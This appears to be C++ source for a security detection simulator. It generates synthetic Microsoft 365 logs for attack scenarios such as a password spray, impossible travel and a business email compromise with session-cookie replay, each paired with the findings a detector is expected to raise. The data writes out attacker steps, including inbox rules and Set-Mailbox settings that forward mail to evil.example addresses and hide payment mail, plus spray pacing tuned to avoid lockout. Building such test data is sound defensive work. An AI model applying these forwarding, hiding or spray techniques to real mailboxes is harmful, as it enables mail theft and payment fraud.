// The attack scenarios: the seeds' four Atomic-style tests and a two-victim BEC campaign.
#include "simulate/exportformat.h"
#include "simulate/places.h"
#include "simulate/scenario.h"

#include <algorithm>

namespace mp::sim {

namespace {

constexpr std::int64_t kSecond = 1000;
constexpr std::int64_t kMinute = 60 * kSecond;

std::string when(std::int64_t ms)
{
    return isoSeconds(ms, true);
}

// Times spread at random over [from, to), sorted, whole seconds.
std::vector<std::int64_t> spread(SimRandom &rng, int count, std::int64_t from, std::int64_t to)
{
    std::vector<std::int64_t> times;
    for (int i = 0; i < count; ++i)
        times.push_back(rng.between(from, to - 1) / kSecond * kSecond);
    std::sort(times.begin(), times.end());
    return times;
}

PlanAdjuster startAt(int onDay, std::int64_t startMs)
{
    return [onDay, startMs](int day, DayPlan &plan) {
        if (day == onDay) {
            const std::int64_t length = plan.endMs - plan.startMs;
            plan.startMs = startMs;
            plan.endMs = startMs + length;
            plan.works = true;
        }
    };
}

} // namespace

void inboxRuleScenario(ScenarioContext &c)
{
    RecordBuilder &b = c.build();
    const User irene = c.addUser("irene.holt", "Irene Holt", 40, "Sales");
    const Place attacker = places::ruleAttacker();
    const std::int64_t signInAt = Tenant::at(0, 16, 38, 12);
    const SignIn signIn = b.signIn(irene, attacker, signInAt, ClientApp::ExchangePowerShell, true);
    b.auditSignIn(irene, signIn);
    const ClientSession shell = b.session(irene, signIn, ClientApp::ExchangePowerShell);
    const std::int64_t ruleAt = Tenant::at(0, 16, 41, 5);
    b.cmdlet(shell, "New-InboxRule", ruleAt,
             {{"AlwaysDeleteOutlookRulesBlob", "False"},
              {"Force", "False"},
              {"Name", "Mail sync"},
              {"ForwardTo", "collector@evil.example"},
              {"StopProcessingRules", "False"}},
             irene.upn + "\\Mail sync");
    c.expect("InboxRuleManipulation", irene, attacker, ruleAt, ruleAt, true,
             "New-InboxRule -ForwardTo collector@evil.example (outside the tenant) from a hosting address "
             "the user never used");
    c.story("inbox-rule (seed test 1)\n"
            "  " + when(signInAt) + "  " + irene.upn + " signs in to Exchange Online PowerShell from " + attacker.ip
            + " (" + attacker.network + ", " + attacker.city + ")\n"
            "  " + when(ruleAt) + "  New-InboxRule \"Mail sync\" -ForwardTo collector@evil.example\n"
            "  Expect: InboxRuleManipulation for " + irene.upn + " from " + attacker.ip + ".");
}

void credentialSprayScenario(ScenarioContext &c)
{
    RecordBuilder &b = c.build();
    SimRandom &rng = c.rng();
    const User lee = c.addUser("lee.gomez", "Lee Gomez", 41, "Operations");
    const Place sprayer = places::sprayer();

    // One pass over the directory in a shuffled order, 70-130 s apart: slow enough to stay
    // under smart lockout, fast enough to cover everyone in an hour and a half.
    std::vector<User> targets = c.tenant().staff();
    targets.push_back(lee);
    for (std::size_t i = targets.size() - 1; i > 0; --i)
        std::swap(targets[i], targets[static_cast<std::size_t>(rng.between(0, static_cast<std::int64_t>(i)))]);
    std::int64_t t = Tenant::at(0, 1, 0, 4);
    const std::int64_t first = t;
    int attempts = 0;
    std::int64_t leeLastFailure = 0;
    for (std::size_t i = 0; i < targets.size(); ++i) {
        const User &target = targets[i];
        const ClientApp app = rng.chance(0.7) ? ClientApp::LegacyEws : ClientApp::LegacyRpc;
        // Two accounts have an expired password that the list got right (50055); one is locked
        // out by a second try (50053). Everyone else: wrong password.
        int code = 50126;
        if (i == 7 || i == 23)
            code = 50055;
        const int tries = target.upn == lee.upn ? 2 : (i == 15 ? 2 : 1);
        for (int k = 0; k < tries; ++k) {
            const int thisCode = (i == 15 && k == 1) ? 50053 : code;
            SignIn &f = b.failedSignIn(target, sprayer, t, app, thisCode);
            const SignIn copy = f;
            AuditRecord &mirror = b.auditSignIn(target, copy);
            // Seen in real exports: the audit record of a failed logon says ResultStatus
            // "Success" (the logging succeeded); only ErrorNumber tells the failure.
            if (attempts % 3 == 0)
                mirror.resultStatus = "Success";
            ++attempts;
            if (target.upn == lee.upn)
                leeLastFailure = t;
            t += rng.between(70, 130) * kSecond;
        }
    }
    // Lee's password was in the list after all: a success from the same address.
    const std::int64_t successAt = std::max(t, leeLastFailure + 9 * kMinute) + rng.between(30, 90) * kSecond;
    const SignIn success = b.signIn(lee, sprayer, successAt, ClientApp::LegacyEws, true);
    b.auditSignIn(lee, success);
    const ClientSession ews = b.session(lee, success, ClientApp::LegacyEws);
    b.mailItemsAccessed(ews, successAt + 2 * kMinute, 40, "Sync", "\\Inbox");
    b.mailItemsAccessed(ews, successAt + 5 * kMinute, 25, "Sync", "\\Sent Items");
    c.expect("PasswordSpray", lee, sprayer, first, successAt, false,
             std::to_string(attempts) + " failed legacy-auth sign-ins (50126, 50055, 50053) against "
                 + std::to_string(targets.size()) + " users from one address, then a success for " + lee.upn);
    // The mailbox sync runs through a script (python-requests): mail access through an
    // automation client, a session anomaly of its own.
    c.expect("SessionAnomaly", lee, sprayer, successAt + 2 * kMinute, successAt + 5 * kMinute, false,
             "mailbox read over EWS by 'python-requests' right after the account fell to the spray");
    c.story("credential-spray (seed test 2)\n"
            "  " + when(first) + " .. " + when(successAt) + "  " + std::to_string(attempts)
            + " failed sign-ins from " + sprayer.ip + " (" + sprayer.network + ", " + sprayer.city + ") against "
            + std::to_string(targets.size()) + " users over Exchange Web Services and Outlook Anywhere\n"
            "  (basic auth): 50126 wrong password, 50055 expired password (twice), 50053 locked (once).\n"
            "  " + when(successAt) + "  success for " + lee.upn + " from the same address, then EWS mailbox sync.\n"
            "  Expect: PasswordSpray from " + sprayer.ip + ", raised in severity by the success; legacy protocols named.");
}

void bulkSendScenario(ScenarioContext &c)
{
    RecordBuilder &b = c.build();
    SimRandom &rng = c.rng();
    const User bruno = c.addUser("bruno.keller", "Bruno Keller", 42, "Customer Success");
    const Place sender = places::bulkSender();
    const SignIn signIn = b.signIn(bruno, sender, Tenant::at(1, 10, 31, 40), ClientApp::OutlookWeb, true);
    b.auditSignIn(bruno, signIn);
    const ClientSession owa = b.session(bruno, signIn, ClientApp::OutlookWeb);
    // 30 sends in 10:40-10:59 and 30 in 11:00-11:20: 60 within 40 minutes, which any sliding
    // 60-minute window sees, while clock-hour bins (the seeds' bin(TimeGenerated, 1h)) see 30 + 30.
    std::vector<std::int64_t> times = spread(rng, 30, Tenant::at(1, 10, 40), Tenant::at(1, 11, 0));
    const std::vector<std::int64_t> later = spread(rng, 30, Tenant::at(1, 11, 0), Tenant::at(1, 11, 20));
    times.insert(times.end(), later.begin(), later.end());
    static const char *domains[] = {"example.com", "example.net", "example.org"};
    for (std::size_t i = 0; i < times.size(); ++i) {
        const std::string to = "contact" + std::to_string(100 + i * 7) + "@" + domains[i % 3];
        b.send(owa, times[i], "Action required: review the shared document", {to});
    }
    c.expect("BulkEmailSending", bruno, sender, times.front(), times.back(), false,
             "60 sends to 60 external recipients in 40 minutes; clock-hour bins split them 30/30 at 11:00");
    c.story("bulk-send (seed test 3)\n"
            "  " + when(signIn.timeMs) + "  " + bruno.upn + " signs in from " + sender.ip + " (" + sender.network + ")\n"
            "  " + when(times.front()) + " .. " + when(times.back())
            + "  60 Send, 30 before 11:00 and 30 after, one external recipient each\n"
            "  Expect: BulkEmailSending for " + bruno.upn + " from " + sender.ip
            + " (sliding window). The seed profile's hourly bins miss it.");
}

void impossibleTravelScenario(ScenarioContext &c)
{
    RecordBuilder &b = c.build();
    const std::int64_t usAt = Tenant::at(2, 9, 52, 10);
    const std::int64_t deAt = Tenant::at(2, 10, 12, 35);
    // Tessa starts work late that day (18:30 UTC), so that nothing else sits next to the pair.
    const User tessa = c.addUser("tessa.lindqvist", "Tessa Lindqvist", 43, "Engineering",
                                 startAt(2, Tenant::at(2, 18, 30, 12)));
    const Place germany = places::travelGermany();
    const SignIn us = b.signIn(tessa, tessa.home, usAt, ClientApp::OutlookWeb, true);
    b.auditSignIn(tessa, us);
    b.mailItemsAccessed(b.session(tessa, us, ClientApp::OutlookWeb), usAt + 90 * kSecond, 4, "Bind", "\\Inbox");
    const SignIn de = b.signIn(tessa, germany, deAt, ClientApp::OutlookWeb, true);
    b.auditSignIn(tessa, de);
    b.mailItemsAccessed(b.session(tessa, de, ClientApp::OutlookWeb), deAt + 2 * kMinute, 6, "Bind", "\\Inbox");
    ExpectedFinding &f = c.expect("ImpossibleTravel", tessa, germany, usAt, deAt, false,
                                  "New York then Frankfurt (about 6,200 km) 20 minutes 25 seconds apart; the pair "
                                  "straddles 10:00, so clock-hour bins never hold both countries");
    f.ips.push_back(tessa.home.ip);
    c.story("impossible-travel (seed test 4)\n"
            "  " + when(usAt) + "  " + tessa.upn + " signs in from home, " + tessa.home.ip + " (" + tessa.home.city
            + ", US)\n"
            "  " + when(deAt) + "  and from " + germany.ip + " (" + germany.network + ", " + germany.city + ", DE)\n"
            "  Expect: ImpossibleTravel for " + tessa.upn + " to " + germany.ip
            + ". The seed profile's hourly bins (09:00 and 10:00) miss it.");
}

void becTwoVictimsScenario(ScenarioContext &c)
{
    RecordBuilder &b = c.build();
    SimRandom &rng = c.rng();
    const Place attacker = places::becAttacker();
    const std::string forwardTo = "remittance.desk@evil.example";
    const std::string phishSender = "sharepoint-notice@docs-share.example";

    struct Victim
    {
        User user;
        int day;
        Place proxy;
        std::string lure;
        std::string ruleName;
        std::vector<std::pair<std::string, std::string>> threads; // subject, vendor
    };
    std::vector<Victim> victims = {
        {c.addUser("dana.whitfield", "Dana Whitfield", 44, "Finance", startAt(1, Tenant::at(1, 13, 5, 31))),
         1,
         places::aitmProxy(0),
         "Dana Whitfield, you have a new shared file: \"Remittance Advice Q4.pdf\"",
         ".",
         {{"Invoice 4471 - October deliveries", "billing@northwind-traders.example"},
          {"AW: Rechnung RE-2026-118", "ap@litware.example"},
          {"Updated remittance details for open invoices", "accounts@tailspintoys.example"}}},
        {c.addUser("omar.haddad", "Omar Haddad", 45, "Finance", startAt(2, Tenant::at(2, 13, 2, 8))),
         2,
         places::aitmProxy(1),
         "Omar Haddad, you have a new shared file: \"Payment Schedule Nov.xlsx\"",
         "..",
         {{"Payment schedule - PO 88213", "orders@northwind-traders.example"},
          {"Wire confirmation for PO 88213", "accounts@tailspintoys.example"},
          {"AW: Zahlungsavis Oktober", "m.schulz@litware.example"}}},
    };

    std::string text = "bec-two-victims (business email compromise across two victims)\n";
    for (std::size_t v = 0; v < victims.size(); ++v) {
        const Victim &victim = victims[v];
        const User &u = victim.user;
        const int d = victim.day;
        // The vendor threads the attacker will answer: real conversations from the days before.
        for (std::size_t i = 0; i < victim.threads.size(); ++i)
            b.inbound(victim.threads[i].second, u.upn, Tenant::at(d - 1, 15 + static_cast<int>(i), 10 + 7 * static_cast<int>(i)),
                      victim.threads[i].first);
        // 1. The lure: a file-share notice whose link leads to an adversary-in-the-middle page.
        const std::int64_t lureAt = Tenant::at(d, 13, 58 - 18 * static_cast<int>(v), 20);
        b.inbound(phishSender, u.upn, lureAt, victim.lure);
        // 2. The victim signs in through the relay: a real, MFA-satisfied sign-in from the relay's
        //    address. The relay keeps the session cookie.
        const std::int64_t aitmAt = lureAt + 32 * kMinute + rng.between(0, 120) * kSecond;
        const SignIn phished = b.signIn(u, victim.proxy, aitmAt, ClientApp::OfficeHome, true);
        b.auditSignIn(u, phished);
        const ClientSession relayed = b.session(u, phished, ClientApp::OutlookWeb);
        b.mailItemsAccessed(relayed, aitmAt + 45 * kSecond, 3, "Bind", "\\Inbox");
        // 3. The cookie is replayed from the attacker's server: same session and token, another
        //    address and country. Identity Protection flags the token.
        const std::int64_t replayAt = aitmAt + 13 * kMinute + rng.between(0, 90) * kSecond;
        SignIn &replay = b.signIn(u, attacker, replayAt, ClientApp::OfficeHome, false);
        replay.sessionId = phished.sessionId;
        replay.uniqueTokenIdentifier = phished.uniqueTokenIdentifier;
        replay.riskLevel = "high";
        replay.riskState = "atRisk";
        replay.riskEventTypes = {"anomalousToken", "unfamiliarFeatures"};
        replay.authenticationRequirement = "multiFactorAuthentication";
        const ClientSession stolen = b.continueSession(relayed, attacker, ClientApp::OutlookWeb);
        b.mailItemsAccessed(stolen, replayAt + 80 * kSecond, 14, "Bind", "\\Inbox");
        b.mailItemsAccessed(stolen, replayAt + 4 * kMinute, 9, "Bind", "\\Sent Items");
        // 4. Hide the replies: a rule named "." or ".." that files payment mail, read, in a folder
        //    nobody opens.
        const std::int64_t ruleAt = replayAt + 7 * kMinute + rng.between(0, 60) * kSecond;
        b.cmdlet(stolen, "New-InboxRule", ruleAt,
                 {{"AlwaysDeleteOutlookRulesBlob", "False"},
                  {"Force", "False"},
                  {"Name", victim.ruleName},
                  {"SubjectOrBodyContainsWords", "invoice;payment;wire"},
                  {"MoveToFolder", v == 0 ? "RSS Subscriptions" : "Conversation History"},
                  {"MarkAsRead", "True"},
                  {"StopProcessingRules", "True"}},
                 u.upn + "\\" + victim.ruleName);
        // 5. Forward the mailbox out: through the Graph API as a rule (UpdateInboxRules) for the
        //    first victim, through OWA's forwarding setting (Set-Mailbox) for the second.
        const std::int64_t forwardAt = ruleAt + 5 * kMinute + rng.between(0, 60) * kSecond;
        std::int64_t lastRuleAt = forwardAt;
        if (v == 0) {
            b.updateInboxRules(b.continueSession(stolen, attacker, ClientApp::GraphExplorer), forwardAt,
                               {{"RuleOperation", "AddMailboxRule"},
                                {"RuleId", rng.hex(16)},
                                {"RuleName", "Vendor sync"},
                                {"RuleCondition", ""},
                                {"RuleActions", "[{\"ActionType\":\"ForwardToRecipientsAction\",\"Recipients\":[\""
                                                    + forwardTo + "\"]}]"},
                                {"RuleState", "Enabled"}});
            lastRuleAt = ruleAt + 28 * kMinute;
            b.cmdlet(stolen, "Set-InboxRule", lastRuleAt,
                     {{"Identity", u.upn + "\\" + victim.ruleName},
                      {"SubjectOrBodyContainsWords", "invoice;payment;wire;remittance;bank details"}},
                     u.upn + "\\" + victim.ruleName);
        } else {
            b.cmdlet(stolen, "Set-Mailbox", forwardAt,
                     {{"Identity", u.upn},
                      {"ForwardingSmtpAddress", "smtp:" + forwardTo},
                      {"DeliverToMailboxAndForward", "True"}},
                     u.upn);
        }
        // Mail that arrives from now on is copied out: message trace shows the forwarded copies.
        for (int k = 0; k < 3; ++k) {
            const std::int64_t at = forwardAt + (10 + 40 * k) * kMinute + rng.between(0, 300) * kSecond;
            const std::string &vendor = victim.threads[static_cast<std::size_t>(k)].second;
            b.inbound(vendor, u.upn, at, "Statement of account");
            MessageRow &copy = b.inbound(u.upn, forwardTo, at + 3 * kSecond, "FW: Statement of account");
            copy.fromIp.clear();
            copy.toIp = "192.0.2." + std::to_string(rng.between(10, 250));
        }
        // 6. Thread hijack: replies in the victim's own vendor conversations, from the
        //    attacker's address, announcing "new bank details".
        std::int64_t replyAt = lastRuleAt + 12 * kMinute;
        const std::int64_t firstReply = replyAt;
        for (const auto &[subject, vendor] : victim.threads) {
            const std::string reply = subject.rfind("AW: ", 0) == 0 ? subject : "RE: " + subject;
            b.send(stolen, replyAt, reply, {vendor});
            replyAt += rng.between(12, 25) * kMinute;
        }
        const std::int64_t lastSend = c.out().audits.back().timeMs;

        // The seeds' branch looks only at mail apps (AppDisplayName has_any Exchange, Outlook, ...):
        // the replay is to OfficeHome, so the seed profile misses it.
        c.expect("RiskySignIn", u, attacker, replayAt, replayAt, false,
                 "high-risk sign-in (anomalousToken, unfamiliarFeatures) to OfficeHome, not a mail app");
        ExpectedFinding &session = c.expect("SessionAnomaly", u, attacker, aitmAt, lastSend, false,
                                            "one session (SessionId, token) used from the phishing relay "
                                                + victim.proxy.ip + " (US) and " + attacker.ip + " (NL)");
        session.ips.push_back(victim.proxy.ip);
        c.expect("InboxRuleManipulation", u, attacker, ruleAt, lastRuleAt, true,
                 "hiding rule \"" + victim.ruleName + "\" (invoice/payment/wire, marked read, moved away) and "
                     + (v == 0 ? "a ForwardToRecipientsAction rule" : "Set-Mailbox ForwardingSmtpAddress") + " to "
                     + forwardTo);
        c.expect("ThreadHijack", u, attacker, firstReply, lastSend, false,
                 "replies in existing vendor threads from the replayed session's address, under a hiding rule");
        c.acceptable("ImpossibleTravel", u, attacker,
                     "the replay (non-interactive) is 13 minutes after the relay sign-in in New Jersey");

        text += "  victim " + std::to_string(v + 1) + ": " + u.upn + "\n"
                "  " + when(lureAt) + "  lure from " + phishSender + ": " + victim.lure + "\n"
                "  " + when(aitmAt) + "  sign-in through the AiTM relay " + victim.proxy.ip + " (" + victim.proxy.network
                + "), MFA satisfied\n"
                "  " + when(replayAt) + "  the same session replayed from " + attacker.ip + " (" + attacker.network + ", "
                + attacker.city + ", NL): risk high\n"
                "  " + when(ruleAt) + "  New-InboxRule \"" + victim.ruleName + "\": invoice/payment/wire -> "
                + (v == 0 ? "RSS Subscriptions" : "Conversation History") + ", mark read\n"
                "  " + when(forwardAt) + "  forwarding to " + forwardTo
                + (v == 0 ? " (Graph: UpdateInboxRules ForwardToRecipientsAction)" : " (Set-Mailbox ForwardingSmtpAddress)")
                + "\n"
                "  " + when(firstReply) + " .. " + when(lastSend) + "  replies in vendor threads (RE:/AW:) from " + attacker.ip
                + "\n";
    }
    std::vector<std::string> both = {victims[0].user.upn, victims[1].user.upn};
    c.out().links.push_back({c.name(), "ip", attacker.ip, both, true, "the replayed sessions of both victims"});
    c.out().links.push_back({c.name(), "forwarding_address", forwardTo, both, true, "both mailboxes forward here"});
    c.out().links.push_back({c.name(), "sender", phishSender, both, true, "both lures came from this sender"});
    c.out().links.push_back({c.name(), "ip", places::office().ip, both, false,
                             "the office's NAT address: every user signs in from it"});
    c.out().links.push_back({c.name(), "country", "US", both, false, "every user's home country"});
    text += "  Expect per victim: RiskySignIn, SessionAnomaly, InboxRuleManipulation, ThreadHijack, all on " + attacker.ip
            + ".\n  The campaign is tied by " + attacker.ip + ", " + forwardTo + " and " + phishSender
            + "; not by the office address " + places::office().ip + " or the country US, which everyone shares.";
    c.story(text);
}

} // namespace mp::sim
